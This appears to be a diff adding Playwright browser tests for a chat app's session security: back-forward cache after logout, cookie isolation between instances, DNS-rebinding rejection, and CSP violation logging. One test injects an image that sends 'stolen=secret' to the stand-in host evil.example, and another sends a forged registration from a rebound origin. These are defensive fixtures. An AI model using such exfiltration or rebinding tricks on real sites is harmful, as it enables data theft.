@@ -1,0 +1,156 @@
+/** What a browser keeps of a session: its cookie, and the pages that it has seen. */
+import assert from "node:assert/strict";
+import { type Browser, chromium, type Page } from "playwright-core";
+import { eventually } from "../support/eventually.ts";
+import { startProgram } from "../support/program.ts";
+import { complaintsOf, connected, enter, message, openBrowser, PASSWORD, say } from "./browser.ts";
+
+/** A Chromium that is told other things than that of the other tests. */
+async function launch(options: { without?: string[]; args?: string[] }): Promise<Browser & AsyncDisposable> {
+  const { without = [], args = [] } = options;
+  const browser = await chromium.launch({
+    executablePath: Deno.env.get("CHROMIUM") ?? "/usr/bin/chromium",
+    ignoreDefaultArgs: without,
+    args: ["--no-sandbox", "--disable-dev-shm-usage", "--disable-background-networking", ...args],
+  });
+  return Object.assign(browser, { [Symbol.asyncDispose]: () => browser.close() });
+}
+
+/** As people have it: Playwright's own keeps no page whole when one leaves it. */
+const openKeepingBrowser = () => launch({ without: ["--disable-back-forward-cache"] });
+
+/** The text that is to be seen: a page that hides itself has none. */
+async function seen(page: Page): Promise<string> {
+  return await page.evaluate<string>("document.body?.checkVisibility() ? document.body.innerText : ''").catch(() => "");
+}
+
+/** Goes back, and looks again and again until the login is there: meanwhile `secret` is never to be seen. */
+async function neverShown(page: Page, secret: string): Promise<void> {
+  await page.goBack({ waitUntil: "commit" }).catch(() => {});
+  let looks = 0;
+  await eventually(async () => {
+    const text = await seen(page);
+    assert(!text.includes(secret), `shown at ${page.url()}: ${text.slice(0, 300)}`);
+    return ++looks >= 20 && text.includes("Log in");
+  }, 15_000);
+}
+
+for (const [kind, open] of [["alone", openBrowser], ["and kept whole", openKeepingBrowser]] as const) {
+  Deno.test(`after a logout the Back button shows nothing of the chat, its page in the cache ${kind}`, async () => {
+    await using program = await startProgram();
+    await using browser = await open();
+    const page = await enter(browser, program, "alice");
+    await say(page, "The vault is open");
+    await message(page, "The vault is open").waitFor();
+    await page.reload();
+    await message(page, "The vault is open").waitFor();
+    await page.getByRole("button", { name: "Log out" }).click();
+    await page.getByRole("button", { name: "Log in" }).waitFor();
+    await neverShown(page, "The vault is open");
+  });
+
+  Deno.test(`after the session has ended the Back button shows nothing of the administration, its page in the cache ${kind}`, async () => {
+    await using program = await startProgram();
+    await using browser = await open();
+    const page = await enter(browser, program, "alice");
+    await say(page, "The vault is open");
+    await message(page, "The vault is open").waitFor();
+    for (const path of ["/admin/messages", "/admin/users"]) {
+      await page.goto(program.url + path);
+      assert.match(await seen(page), /alice/);
+      // Its own page is still open here when it is logged out elsewhere.
+      await page.goto(`${program.url}/static/nothing`);
+      const { name, value } = (await page.context().cookies()).find(({ name }) => /session/.test(name))!;
+      const headers = { Cookie: `${name}=${value}`, Origin: program.url };
+      await (await fetch(`${program.url}/logout`, { method: "POST", headers })).body?.cancel();
+      await neverShown(page, "alice");
+      await page.goto(`${program.url}/login`);
+      await page.getByLabel("Username").fill("alice");
+      await page.getByLabel("Password").fill(PASSWORD);
+      await page.getByRole("button", { name: "Log in" }).click();
+      await connected(page);
+    }
+  });
+}
+
+Deno.test("a page that a browser has kept whole hides itself, and asks anew when it comes back", async () => {
+  await using program = await startProgram();
+  await using browser = await openBrowser();
+  const page = await enter(browser, program, "alice");
+  for (const path of ["/", "/admin/audit", "/docs"]) {
+    await page.goto(program.url + path);
+    // What Chromium does with a page depends on its version; what a page does with that is ours.
+    const told = (name: string, persisted: boolean) =>
+      page.evaluate(`dispatchEvent(new PageTransitionEvent("${name}", { persisted: ${persisted} }))`);
+    await told("pagehide", false);
+    assert.notEqual(await seen(page), "", `${path}: one that is not kept stays as it is`);
+    await told("pagehide", true);
+    assert.equal(await seen(page), "", path);
+    const anew = page.waitForEvent("load");
+    await told("pageshow", true);
+    await anew;
+    assert.notEqual(await seen(page), "", path);
+  }
+  assert.deepEqual(complaintsOf(page), []);
+});
+
+Deno.test("two instances on one host, at two ports, leave each other's logins alone", async () => {
+  await using one = await startProgram();
+  await using other = await startProgram();
+  await using browser = await openBrowser();
+  const first = await enter(browser, one, "alice");
+  const second = await first.context().newPage();
+  await second.goto(`${other.url}/register`);
+  await second.getByLabel("Username").fill("bob");
+  await second.getByLabel("Password").fill(PASSWORD);
+  await second.getByRole("button", { name: "Create account" }).click();
+  await connected(second);
+  await first.reload();
+  await connected(first);
+  await say(first, "Still here");
+  await message(first, "Still here").waitFor();
+  await second.getByRole("button", { name: "Log out" }).click();
+  await second.getByRole("button", { name: "Log in" }).waitFor();
+  await first.reload();
+  await connected(first);
+});
+
+Deno.test("a page whose name leads here by DNS gets nothing but the setting to change, and makes nobody an account", async () => {
+  await using program = await startProgram();
+  await using browser = await launch({ args: ["--host-resolver-rules=MAP *.example 127.0.0.1"] });
+  const page = await browser.newPage();
+  const origin = `http://evil.example:${program.port}`;
+  await page.goto(origin);
+  await page.getByText(`This server is not known as "evil.example:${program.port}": set PUBLIC_URL`).waitFor();
+  const statuses = await page.evaluate<number[]>(`Promise.all([
+    fetch("/register", {
+      method: "POST",
+      headers: { "Content-Type": "application/json" },
+      body: JSON.stringify({ username: "mallory", password: "correct horse" }),
+    }),
+    fetch("/healthz"),
+  ].map(async (answer) => (await answer).status))`);
+  assert.deepEqual(statuses, [421, 421]);
+  const alice = await enter(browser, program, "alice");
+  await alice.getByRole("link", { name: "Administration" }).first().waitFor();
+});
+
+Deno.test("what the policy keeps from happening in a browser is in the log, without what was written", async () => {
+  await using program = await startProgram();
+  await using browser = await openBrowser();
+  const page = await enter(browser, program, "alice");
+  await page.evaluate(`
+    const image = document.createElement("img");
+    image.src = "https://evil.example/?stolen=secret";
+    const script = document.createElement("script");
+    script.textContent = "alert('a secret')";
+    document.body.append(image, script);
+  `);
+  const reports = await eventually(() => {
+    const lines = program.stderr.split("\n").filter((line) => line.includes("kept from loading"));
+    return lines.length >= 2 ? lines.map((line) => JSON.parse(line)) : undefined;
+  }, 15_000);
+  const said = reports.map(({ directive, blocked }) => `${directive} ${blocked}`).sort();
+  assert.deepEqual(said, ["img-src https://evil.example", "script-src-elem inline"]);
+  assert.doesNotMatch(program.stderr, /secret/);
+});
